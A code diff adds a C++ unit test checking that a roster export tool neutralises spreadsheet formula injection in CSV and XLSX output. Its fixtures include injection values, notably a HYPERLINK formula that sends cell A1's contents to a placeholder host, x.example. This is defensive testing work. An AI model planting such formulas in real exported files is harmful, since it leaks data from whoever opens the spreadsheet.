@@ -1023,3 +1023,33 @@ TEST(Cli, ControlBytesReachNoTerminal) {
   const std::string first = key.err.substr(0, key.err.find('\n'));
   EXPECT_EQ(first, dir.path("k.json") + "：" + std::string(60, 'k') + "…：不是申报书的字段");
 }
+
+// Cells a spreadsheet would run as formulas are written as the text they
+// are: a leading apostrophe in the CSV, string cells in the workbook. An
+// amount that is a number, negative too, stays a number.
+TEST(Cli, RosterCellsAreNeverFormulas) {
+  TempDir dir;
+  writeFile(dir.path("h.xdx"),
+            document("<ver>VL2011v1.0</ver><SN>-2+3</SN>"
+                     "<ProjectName>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"点\")</ProjectName>"
+                     "<Presider>@SUM(1+1)</Presider><Department>\t=1+1</Department>"
+                     "<ContactMobile>+8613800000000</ContactMobile><ApplyOutlay>-5</ApplyOutlay>"
+                     "<OutlayAccounts>-1+1</OutlayAccounts>"));
+  CliRun csv = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.csv")});
+  EXPECT_EQ(csv.exit, 1) << csv.err;
+  const std::string table = readFile(dir.path("r.csv"));
+  const std::string row = table.substr(table.find("\r\n") + 2);
+  EXPECT_TRUE(row.starts_with(dir.path("h.xdx") + ",problems,")) << row;
+  for (const std::string& cell : {std::string(",'-2+3,"), std::string(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",'@SUM(1+1),'\t=1+1,"),
+                                  std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")})
+    EXPECT_NE(row.find(cell), std::string::npos) << cell << " in " << row;
+
+  CliRun xlsx = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.xlsx")});
+  EXPECT_EQ(xlsx.exit, 1) << xlsx.err;
+  SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
+  for (const char* ref : {"E2", "F2", "G2", "H2", "N2", "O2", "R2"}) {
+    ASSERT_TRUE(sheet.cells.count(ref)) << ref;
+    EXPECT_EQ(sheet.cells[ref].type, "s") << ref << " " << sheet.cells[ref].value;  // never a formula
+  }
+  EXPECT_EQ(sheet.cells["F2"].value, "=HYPERLINK(\"http://x.example/?\"&A1,\"点\")");
+}
